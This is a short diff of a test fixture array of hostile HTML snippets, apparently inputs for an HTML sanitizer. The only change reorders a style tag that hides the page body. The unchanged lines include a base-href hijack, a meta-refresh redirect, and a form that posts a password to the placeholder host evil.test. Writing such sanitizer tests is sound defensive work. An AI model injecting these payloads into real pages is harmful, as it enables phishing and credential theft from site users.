@@ -13,7 +13,7 @@ export const HOSTILE_HTML = [
   '<base href="https://evil.test/"><a href="login">log in</a>',
   '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
   '<link rel="stylesheet" href="https://evil.test/x.css">',
-  '<style>body { display: none }</style><p>Zone</p>',
+  '<p>Zone</p><style>body { display: none }</style>',
   '<div style="position:fixed;inset:0;background:url(https://evil.test/)">Log in</div>',
   '<form action="https://evil.test/"><input name="password"><button formaction="/x">Go</button></form>',
   '<textarea>text</textarea><select><option>1</option></select><fieldset></fieldset>',
